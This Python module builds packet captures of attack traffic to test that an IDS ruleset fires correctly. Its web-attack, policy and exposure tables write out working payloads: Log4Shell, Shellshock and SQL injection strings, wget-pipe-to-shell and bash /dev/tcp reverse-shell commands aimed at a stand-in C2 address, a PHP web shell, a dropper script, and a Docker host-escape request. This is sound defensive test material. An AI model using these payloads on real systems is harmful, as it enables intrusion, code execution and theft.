"""Attack-like traffic that proves each bundled signature (signatures/netsentry.rules).

One capture per family. Each attack is declared once, in a table that gives
both the traffic and what it must trigger, so ``EXPECTED`` (sid -> capture,
alert src_ip, alert dest_ip) cannot drift from the packets:
tests/e2e/test_bundled_signatures.py replays each capture and checks that
every sid in netsentry.rules appears in its capture's eve.json with exactly
that source and destination.

Addresses (documentation/private only, see pcaps/README.md):
  attackers on the internet   203.0.113.0/24
  other internet hosts        198.51.100.0/24
  DMZ servers ($HOME_NET)     10.0.0.0/24   gateway .1, web .10, ftp .21, telnet .23, smb .30, rdp .31,
                                            docker .40, redis .41, dns .53
  LAN clients ($HOME_NET)     192.168.1.0/24
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, UDP

from craft import (BASE_TS, RDP_CONFIRM, Packet, dns_exchange, http_request, http_response, icmp_echo, icmp_packet,
                   rdp_connection_request, smb2_negotiate, snmp_get_public, tcp_conversation, tcp_packet, tcp_request,
                   tls_client_hello, udp_packet)

WEB = "10.0.0.10"
FTP = "10.0.0.21"
TELNET = "10.0.0.23"
RESOLVER = "10.0.0.53"
GATEWAY = "10.0.0.1"


@dataclass(frozen=True)
class Expect:
    pcap: str
    src_ip: str
    dest_ip: str


# sid -> where and between whom it must fire. Filled by the tables below.
EXPECTED: dict[int, Expect] = {}


def _expect(pcap: str, sid: int, src: str, dst: str) -> None:
    if sid in EXPECTED:
        raise ValueError(f"sid {sid} is proved twice ({EXPECTED[sid].pcap} and {pcap})")
    EXPECTED[sid] = Expect(pcap, src, dst)


# --- attacks-scan.pcap: TCP flag scans ------------------------------------------------------
SCAN_PORTS = (21, 22, 23, 25, 80, 110, 143, 443, 3306, 8080)
# (sid, scanner, TCP flags as scapy letters)
FLAG_SCANS = [
    (9000001, "203.0.113.66", ""),         # nmap -sN
    (9000002, "203.0.113.67", "F"),        # nmap -sF
    (9000003, "203.0.113.68", "FPU"),      # nmap -sX
    (9000004, "203.0.113.69", "SF"),       # SYN-FIN (old firewall evasion)
    (9000005, "203.0.113.70", "SR"),
    (9000007, "203.0.113.72", "FSRPAU"),
]
WINDOW_SCANNER = "203.0.113.71"
for _sid, _src, _flags in FLAG_SCANS:
    _expect("attacks-scan.pcap", _sid, _src, WEB)
_expect("attacks-scan.pcap", 9000006, WINDOW_SCANNER, "10.0.0.10")


def attacks_scan() -> list[Packet]:
    t = BASE_TS + 3600.0
    pkts: list[Packet] = []
    for n, (_sid, src, flags) in enumerate(FLAG_SCANS):
        for i, port in enumerate(SCAN_PORTS):
            seq = 0x3A5F0000 + 7919 * i + n
            pkts.append(tcp_packet(src, WEB, 61000 + n, port, flags, t, seq=seq, window=1024, ip_id=0x1100 + i))
            if port not in (22, 80, 443):  # closed ports answer with RST, open ones stay silent
                pkts.append(tcp_packet(WEB, src, port, 61000 + n, "RA", t + 0.0004, seq=0, ack=seq + 1, window=0))
            t += 0.003
        t += 2.0
    # nmap -sS style: SYN, window 1024, MSS option, across the DMZ; the scanner resets open ports.
    for i, last in enumerate((10, 11, 12, 21, 23, 25, 53)):
        dst = f"10.0.0.{last}"
        seq = 0x51C30000 + 104729 * i
        pkts.append(tcp_packet(WINDOW_SCANNER, dst, 45123, 80, "S", t, seq=seq, window=1024,
                               options=[("MSS", 1460)], ip_id=0x2200 + i))
        if last == 10:
            pkts.append(tcp_packet(dst, WINDOW_SCANNER, 80, 45123, "SA", t + 0.0005, seq=0x7700, ack=seq + 1,
                                   options=[("MSS", 1460)]))
            pkts.append(tcp_packet(WINDOW_SCANNER, dst, 45123, 80, "R", t + 0.001, seq=seq + 1, window=0))
        else:
            pkts.append(tcp_packet(dst, WINDOW_SCANNER, 80, 45123, "RA", t + 0.0005, ack=seq + 1, window=0))
        t += 0.01
    return pkts


# --- attacks-web.pcap: exploits against the DMZ web server --------------------------------------
def _req(method: str, path: str, *, headers: tuple = (), body: bytes = b"",
         ua: str | None = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36") -> bytes:
    return http_request(method, path, "www.corp.example", headers=list(headers), body=body, user_agent=ua)


NOT_FOUND = http_response(404, "Not Found", b"<html><body>Not Found</body></html>")
OK = http_response(200, "OK", b"<html><body>OK</body></html>")
PASSWD = http_response(200, "OK", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
                       content_type="text/plain")
ROOT_ID = http_response(200, "OK", b"uid=0(root) gid=0(root) groups=0(root)\n", content_type="text/plain")
WEB_ATTACKER = "203.0.113.10"
C2 = "203.0.113.99"

# (request sids, response sids, request, response), all from WEB_ATTACKER to WEB:80. Request sids
# alert WEB_ATTACKER -> WEB; response sids alert on what the server sends back, WEB -> WEB_ATTACKER.
WEB_ATTACKS: list[tuple[tuple[int, ...], tuple[int, ...], bytes, bytes]] = [
    ((9001001,), (), _req("GET", "/", ua=f"${{jndi:ldap://{C2}:1389/Exploit}}"), OK),
    ((9001002,), (), _req("GET", f"/?q=%24%7Bjndi%3Aldap%3A%2F%2F{C2}%2Fa%7D"), OK),
    ((9001003,), (), _req("GET", "/", headers=(("X-Api-Version",
                                                 "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://"
                                                 f"{C2}/a}}"),)), OK),
    ((9001004,), (), _req("GET", "/", headers=(("Referer", f"${{${{lower:j}}ndi:${{lower:l}}dap://{C2}/a}}"),)), OK),
    ((9001010,), (), _req("GET", "/cgi-bin/status", ua="() { :; }; /bin/bash -c 'echo vulnerable'"), OK),
    ((9001020,), (), _req("GET", "/static/../../../../etc/hosts"), NOT_FOUND),
    ((9001021,), (), _req("GET", "/download?file=%2e%2e%2f%2e%2e%2fwindows%2fwin.ini"), NOT_FOUND),
    ((9001022,), (9001081,), _req("GET", "/index.php?page=/etc/passwd"), PASSWD),
    ((9001023,), (), _req("GET", "/index.php?page=/proc/self/environ"), NOT_FOUND),
    ((9001024,), (9001080,), _req("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", body=b"echo Content-Type: text/plain; echo; id",
                                  headers=(("Content-Type", "text/plain"),)), ROOT_ID),
    ((9001030,), (), _req("GET", "/products.php?id=1+UNION+ALL+SELECT+NULL,CONCAT(username,0x3a,password),NULL+FROM+users--"),
     NOT_FOUND),
    ((9001031,), (), _req("GET", "/login.php?user=admin%27%20OR%201%3D1--&pass=x"), NOT_FOUND),
    ((9001032,), (), _req("POST", "/api/login", body=b'{"user":"admin\' OR \'1\'=\'1","pass":"x"}',
                          headers=(("Content-Type", "application/json"),)), NOT_FOUND),
    ((9001033,), (), _req("GET", "/item.php?id=1%20AND%20SLEEP(5)"), NOT_FOUND),
    ((9001034,), (), _req("GET", "/item.php?id=(select+table_name+from+information_schema.tables+limit+1)"), NOT_FOUND),
    ((9001035,), (), _req("GET", "/report.asp?id=1%3BWAITFOR%20DELAY%20%270:0:5%27--"), NOT_FOUND),
    ((9001040,), (), _req("GET", f"/cgi-bin/ping.cgi?host=127.0.0.1;wget+http://{C2}/bot.mips+-O+/tmp/b"), OK),
    ((9001041,), (), _req("POST", "/api/diag", body=f"ip=192.0.2.1%3Bcurl%20-s%20http%3A%2F%2F{C2}%2Fx".encode(),
                          headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
    ((9001042,), (), _req("POST", "/cgi-bin/luci/diag", body=f"cmd=wget -qO- http://{C2}/i|sh".encode(),
                          headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
    ((9001044,), (), _req("GET", f"/shell?cmd=wget%20-qO-%20http://{C2}/i%7Csh"), OK),
    ((9001043,), (), _req("POST", "/cgi-bin/admin.cgi", body=f"cmd=bash+-i+>%26+/dev/tcp/{C2}/4444+0>%261".encode(),
                          headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
    ((9001050,), (), _req("POST", "/upload.php", body=b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n"
                          b"<?php system($_GET['c']); ?>\r\n--b--\r\n",
                          headers=(("Content-Type", "multipart/form-data; boundary=b"),)), OK),
    ((9001051,), (), _req("GET", "/index.php?page=php://filter/convert.base64-encode/resource=config"), NOT_FOUND),
    ((9001052,), (), _req("POST", "/wp-content/uploads/cache.php", body=b"z=@eval(base64_decode($_POST[z0]));&z0=ZWNobyAxOw==",
                          headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
    ((9001060,), (), _req("POST", "/app/greeting", body=b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                          headers=(("Content-Type", "application/x-www-form-urlencoded"),)), NOT_FOUND),
    ((9001061,), (), _req("GET", "/struts2-showcase/index.action", headers=((
        "Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
                        "(#_memberAccess?(#_memberAccess=#dm):0).(#cmd='id')}"),)), NOT_FOUND),
    # PHPUnit's eval-stdin.php runs the body as PHP, so this one also trips 9001050 (proved above).
    ((9001062,), (), _req("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                          body=b"<?php echo md5('netsentry'); ?>"), NOT_FOUND),
    ((9001063,), (), _req("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                                 "&vars[0]=md5&vars[1][]=x"), NOT_FOUND),
    ((9001070,), (), _req("GET", "/.git/config"), NOT_FOUND),
    ((9001071,), (), _req("GET", "/.env"), NOT_FOUND),
]
SCANNER_UAS = [  # (sid, scanner address, request)
    (9002001, "203.0.113.21", _req("GET", "/products.php?id=1", ua="sqlmap/1.7.2#stable (https://sqlmap.org)")),
    (9002002, "203.0.113.22", _req("GET", "/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)")),
    (9002003, "203.0.113.23", _req("GET", "/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
    (9002004, "203.0.113.23", http_request("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "10.0.0.10",
                                           user_agent=None, version="HTTP/1.0")),
    (9002005, "203.0.113.24", _req("GET", "/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
    (9002006, "203.0.113.25", _req("GET", "/", ua="Mozilla/5.0 zgrab/0.x")),
    (9002007, "203.0.113.26", _req("GET", "/", ua="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
    (9002008, "203.0.113.27", _req("GET", "/wp-login.php", ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")),
    (9002009, "203.0.113.28", _req("GET", "/admin/", ua="DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")),
    (9002010, "203.0.113.29", _req("GET", "/backup/", ua="gobuster/3.6")),
]

for _req_sids, _resp_sids, _r, _resp in WEB_ATTACKS:
    for _sid in _req_sids:
        _expect("attacks-web.pcap", _sid, WEB_ATTACKER, WEB)
    for _sid in _resp_sids:
        _expect("attacks-web.pcap", _sid, WEB, WEB_ATTACKER)
for _sid, _src, _r in SCANNER_UAS:
    _expect("attacks-web-scanners.pcap", _sid, _src, WEB)


# IDS evasion by tiny segments: these requests are cut so the marker straddles a segment
# boundary; only an engine that inspects the TCP stream (as Suricata does) still sees it.
SPLIT_INSIDE = {9001003: b"${${::-"}


def attacks_web() -> list[Packet]:
    t = BASE_TS + 4000.0
    pkts: list[Packet] = []
    for i, (req_sids, _resp_sids, request, response) in enumerate(WEB_ATTACKS):
        marker = SPLIT_INSIDE.get(req_sids[0])
        mss = request.index(marker) + len(marker) // 2 if marker else 1460
        pkts += tcp_request(WEB_ATTACKER, WEB, 52000 + i, 80, request, response, t, mss=mss)
        t += 1.5
    return pkts


def attacks_web_scanners() -> list[Packet]:
    t = BASE_TS + 4300.0
    pkts: list[Packet] = []
    for i, (_sid, src, request) in enumerate(SCANNER_UAS):
        pkts += tcp_request(src, WEB, 53000 + i, 80, request, NOT_FOUND, t)
        t += 0.7
    return pkts


# --- attacks-credentials.pcap: passwords in cleartext ---------------------------------------------
# (sids, client, server, port, exchanges, alert_from_server)
CREDENTIALS: list[tuple[tuple[int, ...], str, str, int, list[tuple[bytes, bytes]], bool]] = [
    ((9003001,), "192.168.1.40", "198.51.100.21", 21,
     [(b"", b"220 (vsFTPd 3.0.3)\r\n"), (b"USER alice\r\n", b"331 Please specify the password.\r\n"),
      (b"PASS Winter2026!\r\n", b"230 Login successful.\r\n"), (b"QUIT\r\n", b"221 Goodbye.\r\n")], False),
    ((9003002,), "203.0.113.30", FTP, 21,
     [(b"", b"220 ProFTPD Server ready.\r\n"), (b"USER root\r\n", b"331 Password required for root\r\n"),
      (b"pass toor\r\n", b"530 Login incorrect.\r\n")], False),
    ((9003003,), "203.0.113.31", TELNET, 23,
     [(b"", b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"), (b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27", b""),
      (b"", b"\r\nDebian GNU/Linux 12\r\nrouter login: "), (b"admin\r\n", b"Password: "),
      (b"admin\r\n", b"\r\nLogin incorrect\r\n")], True),
    ((9003004,), "192.168.1.41", "198.51.100.88", 80,
     [(http_request("GET", "/admin/", "printer.example.net", headers=[("Authorization", "Basic YWRtaW46cGFzc3dvcmQ=")]),
       OK)], False),
    ((9003005,), "192.168.1.42", "198.51.100.110", 110,
     [(b"", b"+OK POP3 server ready\r\n"), (b"USER bob\r\n", b"+OK\r\n"), (b"PASS hunter2\r\n", b"+OK 3 messages\r\n"),
      (b"QUIT\r\n", b"+OK bye\r\n")], False),
    ((9003006,), "192.168.1.43", "198.51.100.143", 143,
     [(b"", b"* OK [CAPABILITY IMAP4rev1 LITERAL+ AUTH=PLAIN] ready\r\n"),
      (b"a001 LOGIN bob hunter2\r\n", b"a001 OK LOGIN completed\r\n"), (b"a002 LOGOUT\r\n", b"* BYE\r\na002 OK\r\n")], False),
    ((9003007,), "192.168.1.44", "198.51.100.25", 25,
     [(b"", b"220 smtp.example.net ESMTP\r\n"), (b"EHLO laptop\r\n", b"250-smtp.example.net\r\n250 AUTH LOGIN PLAIN\r\n"),
      (b"AUTH LOGIN\r\n", b"334 VXNlcm5hbWU6\r\n"), (b"Ym9i\r\n", b"334 UGFzc3dvcmQ6\r\n"),
      (b"aHVudGVyMg==\r\n", b"235 2.7.0 Authentication successful\r\n"), (b"QUIT\r\n", b"221 Bye\r\n")], False),
]
for _sids, _client, _server, _port, _ex, _from_server in CREDENTIALS:
    for _sid in _sids:
        _expect("attacks-credentials.pcap", _sid, *((_server, _client) if _from_server else (_client, _server)))


def attacks_credentials() -> list[Packet]:
    t = BASE_TS + 4600.0
    pkts: list[Packet] = []
    for i, (_sids, client, server, port, exchanges, _fs) in enumerate(CREDENTIALS):
        pkts += tcp_conversation(client, server, 54000 + i, port, exchanges, t, close="server-fin")
        t += 2.0
    return pkts


# --- attacks-dns.pcap: lookups of tunnel, dynamic-DNS and callback names --------------------------
DNS_LOOKUPS = [  # (sid, client, qname)
    (9004001, "192.168.1.50", "home-cam.duckdns.org"),
    (9004002, "192.168.1.51", "c2-node.ddns.net"),
    (9004003, "192.168.1.52", "4f2a-198-51-100-7.ngrok-free.app"),
    (9004004, "192.168.1.53", "cn1q3k2v9mz7x5abcdef.oast.fun"),
    (9004005, "192.168.1.54", "x7k2m9.dnslog.cn"),
    (9004006, "192.168.1.55", "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion"),
    (9004007, "192.168.1.56", "pool.supportxmr.com"),
]
DNS_PROBER = "203.0.113.53"
for _sid, _client, _q in DNS_LOOKUPS:
    _expect("attacks-dns.pcap", _sid, _client, RESOLVER)
_expect("attacks-dns.pcap", 9004008, DNS_PROBER, RESOLVER)
_expect("attacks-dns.pcap", 9004009, DNS_PROBER, RESOLVER)


def attacks_dns() -> list[Packet]:
    t = BASE_TS + 4900.0
    pkts: list[Packet] = []
    for i, (_sid, client, qname) in enumerate(DNS_LOOKUPS):
        rcode = 3 if qname.endswith(".onion") else 0
        answers = [] if rcode else ["198.51.100.66"]
        pkts += dns_exchange(client, RESOLVER, qname, t, answers=answers, rcode=rcode, txid=0x2000 + i)
        t += 0.9
    # ANY probe over UDP (amplification recon), then an AXFR attempt over TCP.
    pkts += dns_exchange(DNS_PROBER, RESOLVER, "corp.example", t, qtype="ANY", answers=[], rcode=5,
                         txid=0x3131, sport=44444)
    t += 1.0
    axfr = bytes(DNS(id=0x3232, rd=0, qd=[DNSQR(qname="corp.example", qtype=252)]))
    refused = bytes(DNS(id=0x3232, qr=1, rcode=5, qd=[DNSQR(qname="corp.example", qtype=252)]))
    pkts += tcp_request(DNS_PROBER, RESOLVER, 44445, 53, struct.pack("!H", len(axfr)) + axfr,
                        struct.pack("!H", len(refused)) + refused, t, close="server-fin")
    return pkts


# --- attacks-icmp.pcap -----------------------------------------------------------------------------
PING_FLOODER = "203.0.113.77"
PTUNNEL_CLIENT, PTUNNEL_PROXY = "192.168.1.60", "198.51.100.200"
ICMPSH_VICTIM, ICMPSH_MASTER = "192.168.1.61", "203.0.113.78"
ICMP_RECON = "203.0.113.79"
REDIRECTOR = "203.0.113.80"
for _sid, _src, _dst in [(9005001, PING_FLOODER, WEB), (9005002, PTUNNEL_CLIENT, PTUNNEL_PROXY),
                         (9005003, ICMPSH_VICTIM, ICMPSH_MASTER), (9005004, ICMP_RECON, GATEWAY),
                         (9005005, ICMP_RECON, GATEWAY), (9005006, REDIRECTOR, "192.168.1.20")]:
    _expect("attacks-icmp.pcap", _sid, _src, _dst)


def attacks_icmp() -> list[Packet]:
    t = BASE_TS + 5200.0
    pkts: list[Packet] = []
    big = bytes((i * 7) & 0xFF for i in range(1400))   # ping -s 1400
    for seq in range(1, 4):
        pkts += icmp_echo(PING_FLOODER, WEB, t, ident=0x0BAD, seq=seq, payload=big)
        t += 0.2
    # ptunnel: magic 0xd5200880, then destination ip/port, state, ack, length, seq, rsv.
    for seq in range(3):
        body = struct.pack("!I4sIIIIHH", 0xD5200880, bytes([198, 51, 100, 22]), 22, 0x40000000, 0, 0, seq, 0)
        pkts += icmp_echo(PTUNNEL_CLIENT, PTUNNEL_PROXY, t, ident=0x7A11, seq=seq + 1, payload=body + b"SSH-2.0-OpenSSH_9.6\r\n"[:seq * 7])
        t += 0.3
    # icmpsh: the victim polls the master with echo requests carrying the shell's output.
    banner = (b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft Corporation. All rights reserved."
              b"\r\n\r\nC:\\Users\\bob>")
    pkts += icmp_echo(ICMPSH_VICTIM, ICMPSH_MASTER, t, ident=0x0001, seq=1, payload=banner)
    t += 0.5
    pkts.append(icmp_packet(ICMP_RECON, GATEWAY, t, type=13, ident=0x5151, seq=1, ts_ori=29012345))
    pkts.append(icmp_packet(ICMP_RECON, GATEWAY, t + 0.5, type=17, ident=0x5152, seq=1))
    original = bytes(IP(src="192.168.1.20", dst="198.51.100.80", id=7, ttl=63) / UDP(sport=5353, dport=53))[:28]
    pkts.append(icmp_packet(REDIRECTOR, "192.168.1.20", t + 1.0, type=5, code=1, gw=REDIRECTOR, payload=original))
    return pkts


# --- attacks-policy.pcap: protocols on the wrong port, droppers, miners ------------------------------
def _pe_file() -> bytes:
    """A minimal MS-DOS header + stub, as every Windows executable starts."""
    hdr = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(0x3C - 17) + struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = hdr + stub
    return body + bytes(0x80 - len(body)) + b"PE\x00\x00" + bytes((i * 13) & 0xFF for i in range(2500))


XMRIG_LOGIN = (b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft'
               b'3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) '
               b'libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n')
# (sid, client, server, port, exchanges, alert_from_server)
POLICY: list[tuple[int, str, str, int, list[tuple[bytes, bytes]], bool]] = [
    (9006001, "192.168.1.70", "198.51.100.201", 4444, [(tls_client_hello("update.example.net", seed="c2"), b"")], False),
    (9006002, "192.168.1.71", "198.51.100.202", 2222,
     [(b"SSH-2.0-OpenSSH_9.6p1 Debian-3\r\n", b"SSH-2.0-OpenSSH_8.4p1\r\n")], False),
    (9006003, "192.168.1.72", "198.51.100.203", 3333,
     [(b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n',
       b'{"id":1,"result":[["mining.notify","ae6812eb"],"08000002",4],"error":null}\n')], False),
    (9006004, "192.168.1.73", "198.51.100.204", 3333, [(XMRIG_LOGIN, b'{"id":1,"jsonrpc":"2.0","error":null}\n')], False),
    (9006005, "192.168.1.74", "198.51.100.205", 80,
     [(http_request("GET", "/bins/x86.sh", "198.51.100.205", user_agent="Wget/1.21.3"),
       http_response(body=b"#!/bin/sh\ncd /tmp || cd /var/run; wget http://198.51.100.205/bins/x86 -O .x; chmod +x .x; ./.x\n",
                     content_type="text/x-sh", server="Apache"))], False),
    (9006006, "192.168.1.75", "198.51.100.206", 80,
     [(http_request("GET", "/update/setup.exe", "downloads.example.net"),
       http_response(body=_pe_file(), content_type="application/octet-stream"))], True),
]
for _sid, _client, _server, _port, _ex, _from_server in POLICY:
    _expect("attacks-policy.pcap", _sid, *((_server, _client) if _from_server else (_client, _server)))


def attacks_policy() -> list[Packet]:
    t = BASE_TS + 5500.0
    pkts: list[Packet] = []
    for i, (_sid, client, server, port, exchanges, _fs) in enumerate(POLICY):
        pkts += tcp_conversation(client, server, 55000 + i, port, exchanges, t)
        t += 2.0
    return pkts


# --- attacks-exposure.pcap: internal services reached from the internet -------------------------------
DOCKER_CREATE = http_request("POST", "/v1.43/containers/create", "10.0.0.40:2375", user_agent="Go-http-client/1.1",
                             headers=[("Content-Type", "application/json")],
                             body=b'{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","id"],'
                                  b'"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}')
REDIS_CONFIG_SET = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"
NTP_MONLIST = b"\x17\x00\x03\x2a" + bytes(44)


# (sid, attacker, server, port, exchanges) for TCP services
EXPOSED_TCP: list[tuple[int, str, str, int, list[tuple[bytes, bytes]]]] = [
    (9007001, "203.0.113.40", "10.0.0.30", 445, [(smb2_negotiate(), b"")]),
    (9007002, "203.0.113.41", "10.0.0.31", 3389, [(rdp_connection_request("administr"), RDP_CONFIRM)]),
    (9007003, "203.0.113.42", "10.0.0.40", 2375,
     [(DOCKER_CREATE, http_response(201, "Created", b'{"Id":"4f2a","Warnings":[]}', content_type="application/json",
                                    server="Docker/24.0.7 (linux)"))]),
    (9007004, "203.0.113.43", "10.0.0.41", 6379, [(REDIS_CONFIG_SET, b"+OK\r\n")]),
]
# (sid, attacker, server, port, request, response) for UDP services
EXPOSED_UDP: list[tuple[int, str, str, int, bytes, bytes]] = [
    (9007005, "203.0.113.44", "10.0.0.1", 123, NTP_MONLIST, b"\x97\x00\x03\x2a" + bytes(4)),
    (9007006, "203.0.113.45", "10.0.0.1", 161, snmp_get_public(0x1234), b""),
]
for _sid, _src, _dst, _port, *_rest in EXPOSED_TCP + EXPOSED_UDP:
    _expect("attacks-exposure.pcap", _sid, _src, _dst)


def attacks_exposure() -> list[Packet]:
    t = BASE_TS + 5800.0
    pkts: list[Packet] = []
    for i, (_sid, client, server, port, exchanges) in enumerate(EXPOSED_TCP):
        pkts += tcp_conversation(client, server, 56000 + i, port, exchanges, t)
        t += 2.0
    for i, (_sid, client, server, port, request, response) in enumerate(EXPOSED_UDP):
        for n in range(3):   # amplifiers and scanners retry
            pkts.append(udp_packet(client, server, 57000 + i, port, request, t))
            if response:
                pkts.append(udp_packet(server, client, port, 57000 + i, response, t + 0.01))
            t += 0.5
    return pkts


SCENARIOS: dict[str, Callable[[], list[Packet]]] = {
    "attacks-scan.pcap": attacks_scan,
    "attacks-web.pcap": attacks_web,
    "attacks-web-scanners.pcap": attacks_web_scanners,
    "attacks-credentials.pcap": attacks_credentials,
    "attacks-dns.pcap": attacks_dns,
    "attacks-icmp.pcap": attacks_icmp,
    "attacks-policy.pcap": attacks_policy,
    "attacks-exposure.pcap": attacks_exposure,
}
